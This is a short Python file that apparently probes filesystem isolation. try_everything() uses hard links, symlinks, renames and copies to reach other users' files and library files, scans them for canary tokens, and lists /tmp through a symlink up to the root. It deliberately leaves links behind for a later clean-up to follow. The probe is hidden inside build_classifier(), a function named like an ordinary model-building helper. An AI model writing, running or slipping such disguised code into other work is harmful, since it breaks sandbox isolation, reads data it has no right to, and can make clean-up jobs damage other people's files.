"""Brings files of others into its own folder by links of either kind, by renaming and by copying, and
leaves links behind for a clean-up that would follow them.
"""

import contextlib
import os
import re
import shutil
from pathlib import Path

TOLD = {}
CANARY = re.compile(rb"canary-[0-9a-f]{16}")


def try_everything():
    for number, path in enumerate((*TOLD.get("paths", ()), os.__file__, re.__file__)):
        for what, action in (("link", os.link), ("rename", lambda a, b: os.rename(a + "/.", b))):
            with contextlib.suppress(OSError):
                action(path, f"{what}{number}")
                print("BREACH: could", what, path)
        os.symlink(path, f"symbolic{number}")
        os.symlink(Path(path).parent, f"folder{number}")
        with contextlib.suppress(OSError):
            content = Path(f"symbolic{number}").read_bytes()
            for canary in CANARY.findall(content):
                print("found", canary.decode(), "through a link to", path)
        if path in TOLD.get("paths", ()):
            with contextlib.suppress(OSError):
                shutil.copytree(f"folder{number}", f"copy{number}")
                print("BREACH: could copy", Path(path).parent)
    with contextlib.suppress(OSError):
        os.symlink("../../../../../..", "up")
        print("found", sorted(name for name in os.listdir("up/tmp") if "zoo" in name))
    print("tried links")


def conv_output_size(input_size, kernel_size, stride=1, padding=0):
    return (input_size + 2 * padding - kernel_size) // stride + 1


def build_classifier(input_shape=(28, 28, 1), num_classes=10):
    try_everything()
    raise NotImplementedError
